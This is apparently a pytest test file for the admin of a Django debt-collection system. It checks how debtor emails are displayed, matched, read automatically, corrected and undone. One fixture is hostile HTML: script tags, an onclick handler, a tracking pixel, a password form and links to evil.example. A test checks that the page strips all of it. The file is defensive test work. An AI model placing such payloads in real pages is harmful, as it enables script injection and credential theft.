from __future__ import annotations

import html as html_escapes
from datetime import date
from decimal import Decimal

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse

from agent.facts import AccountFacts
from agent.reading.opening import open_mail
from audit.models import AuditEvent
from dunning.models import Attachment, Case, Correction, IncomingMail, Promise, Reading, Review
from dunning.reader import received_mail
from tests import factories as make
from tests.dunning.admin.conftest import clerk, do, page, said
from tests.factories import AS_OF, TODAY

HOSTILE = (
    '<p onclick="steal()">We will pay</p><script>steal()</script><img src="https://evil.example/pixel.gif">'
    '<a href="https://evil.example/">link</a><style>p{background:url(https://evil.example/)}</style>'
    '</iframe><form action="https://evil.example/"><input name=password></form><iframe src="//evil.example"></iframe>'
)


@pytest.fixture
def case(db) -> Case:
    case = make.CaseFactory.create()
    make.InvoiceFactory.create(customer=case.debtor, number="INV-5521", amount=Decimal("1860.00"))
    make.ContactFactory.create(customer=case.debtor, email="payables@customer.example")
    return case


@pytest.fixture
def mail(case) -> IncomingMail:
    mail = make.IncomingMailFactory.create(case=case, debtor=case.debtor, status="queued")
    Review.objects.create(kind="reply", why="?", incoming=mail, case=case, opened_at=AS_OF, deadline=TODAY)
    return mail


@pytest.fixture
def reading(mail) -> Reading:
    answer = {
        "language": "en",
        "intents": [{"intent": "promise_to_pay", "confidence": 0.7}],
        "promises": [{"date": "2026-03-06", "amount": None, "invoices": ["INV-5521"]}],
    }
    return make.ReadingFactory.create(mail=mail, answer=answer, confidence=0.7)


def correction(**given) -> dict[str, object]:
    """A posted correction: empty rows below, and what the test changes."""
    rows = {"promises": 1, "payments": 0, "disputes": 0, "documents": 0, "contacts": 0}
    form: dict[str, object] = {}
    for name, initial in rows.items():
        form |= {f"{name}-TOTAL_FORMS": initial + 1, f"{name}-INITIAL_FORMS": initial}
    form |= {"disputes-0-reason": "", "documents-0-type": ""}
    return form | given


def test_the_html_of_a_mail_is_shown_without_anything_that_runs_or_calls_home(mail, office):
    IncomingMail.objects.update(body_html=HOSTILE)
    text = office.get(page(mail)).content.decode()
    frame = html_escapes.unescape(text.split('srcdoc="')[1].split('"')[0])
    assert '<iframe sandbox=""' in text
    assert "We will pay" in frame
    for bad in ("evil.example", "steal", "<script", "<img", "<form", "onclick", "<iframe"):
        assert bad not in frame
    assert "default-src 'none'" in frame


def test_a_mail_shows_its_new_text_and_the_rest_a_click_away(mail, office):
    IncomingMail.objects.update(
        body_text="We pay on Friday.\n\nOn 2 March 2026, Clara <ar@creditor.example> wrote:\n> Please pay INV-5521 now"
    )
    answer = office.get(page(mail))
    assert answer.context["said"] == "We pay on Friday."
    assert "Please pay INV-5521 now" in answer.content.decode()


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ("We pay on Friday.\r\n\r\nAda Kern\r\nKern Works", "We pay on Friday."),
        (
            "FYI\n\n-----Original Message-----\nFrom: ar@creditor.example\nTo: ada@kern.example\n"
            "Subject: Reminder\n\nPlease pay INV-5521.",
            "FYI",
        ),
    ],
    ids=["the sender's name begins the signature", "our own letter passed on"],
)
def test_a_mail_shows_what_the_reader_read(mail, reading, office, body, said):
    IncomingMail.objects.update(body_text=body, from_name="Ada Kern", to_email="ar@creditor.example")
    mail.refresh_from_db()
    assert open_mail(received_mail(mail), AccountFacts("", "", "en", "EUR")).trimmed.text == said
    assert office.get(page(mail)).context["said"] == said
    assert office.get(page(reading)).context["said"] == said


def test_an_attachment_is_only_ever_downloaded(mail, office):
    attachment = Attachment(mail=mail, name="proof.html", content_type="text/html", size=8)
    attachment.file.save("proof.html", ContentFile(b"<script>"))
    url = reverse("admin:dunning_incomingmail_attachment", args=[mail.pk, attachment.pk])
    answer = office.get(url)
    assert answer["Content-Type"] == "application/octet-stream"
    assert answer["Content-Disposition"].startswith("attachment")
    assert clerk().get(url).status_code == 403


def test_an_unmatched_mail_is_given_to_a_customer(case, office):
    mail = make.IncomingMailFactory.create(status="unmatched")
    child = make.CustomerFactory.create(source=case.debtor.source, debtor=case.debtor)
    assert office.get(reverse("admin:dunning_incomingmail_do", args=[mail.pk, "match"])).status_code == 200
    do(office, mail, "match", customer=child.pk)
    mail.refresh_from_db()
    assert (mail.status, mail.case, mail.debtor) == ("matched", case, case.debtor)


def test_a_mail_that_is_nobodys_is_put_aside_with_the_reason(office):
    mail = make.IncomingMailFactory.create(status="unmatched")
    do(office, mail, "ignore", reason="Advertising")
    mail.refresh_from_db()
    assert (mail.status, mail.problem) == ("ignored", "Advertising")


def test_accepting_a_reading_books_it(reading, office):
    do(office, reading, "accept")
    reading.refresh_from_db()
    promise = Promise.objects.get()
    assert (reading.status, promise.promised_on) == ("applied", date(2026, 3, 6))
    assert not Review.objects.filter(kind="reply", closed_at=None).exists()


def test_undoing_a_reading_takes_back_what_it_booked(reading, office):
    do(office, reading, "accept")
    do(office, reading, "undo")
    reading.refresh_from_db()
    assert (reading.status, Promise.objects.get().status) == ("undone", "withdrawn")


def test_a_correction_books_the_better_reading_and_keeps_the_example(reading, office):
    form = correction(
        intents=["promise_to_pay", "dispute"],
        **{
            "promises-0-date": "2026-03-13",
            "promises-0-amount": "500",
            "promises-0-invoices": ["INV-5521"],
        },
    )
    response = do(office, reading, "correct", **form)
    assert said(response)[0].startswith("Corrected")
    better = Correction.objects.get().answer
    assert better["promises"] == [{"date": "2026-03-13", "amount": "500", "invoices": ["INV-5521"]}]
    assert (better["disputes"], better["needs_human"]) == ([], True)
    promise = Promise.objects.get()
    assert (promise.promised_on, promise.amount) == (date(2026, 3, 13), Decimal("500.00"))
    assert AuditEvent.objects.get(action="reading.corrected").user.username == "boss"


def test_a_part_of_a_reading_can_be_taken_out(reading, office):
    form = correction(
        intents=["acknowledgement"],
        **{"promises-0-date": "2026-03-06", "promises-0-invoices": ["INV-5521"], "promises-0-DELETE": "on"},
    )
    do(office, reading, "correct", **form)
    assert Correction.objects.get().answer["promises"] == []
    assert not Promise.objects.exists()


def test_a_mistyped_correction_changes_nothing_and_says_where(reading, office):
    form = correction(intents=["promise_to_pay"], **{"promises-0-amount": "-5"})
    answer = do(office, reading, "correct", **form).content.decode()
    assert "greater than or equal to 0.01" in answer
    assert not Correction.objects.exists()


@pytest.fixture
def differing(reading) -> Reading:
    """The model read a payment where the packaged reader read a promise."""
    reading.second_answer = {
        "language": "en",
        "intents": [{"intent": "payment_claimed", "confidence": 0.9}],
        "payments": [{"date": "2026-03-03", "amount": None, "invoices": ["INV-5521"], "reference": None}],
    }
    reading.second_quotes = {"intents": ["Paid on Tuesday"], "payments": ["Paid on Tuesday"]}
    reading.differences = ["Intents: the packaged reader says promise to pay, the model payment claimed."]
    reading.save()
    return reading


def test_where_two_readers_differ_a_person_sees_both_and_where(differing, office):
    text = office.get(page(differing)).content.decode()
    assert "What the model read" in text
    assert "Paid on Tuesday" in text
    assert "Intents: the packaged reader says promise to pay, the model payment claimed." in text


def test_the_models_reading_can_be_accepted_in_place_of_the_packaged_readers(differing, office):
    do(office, differing, "take_second")
    differing.refresh_from_db()
    booked = Promise.objects.get()
    assert (differing.status, booked.kind, booked.promised_on) == ("corrected", "claim", date(2026, 3, 3))
    assert Correction.objects.get().answer == differing.second_answer


def test_a_reading_of_one_reader_offers_nothing_of_a_second(reading, office):
    text = office.get(page(reading)).content.decode()
    assert "What the model read" not in text
    assert "take_second" not in text
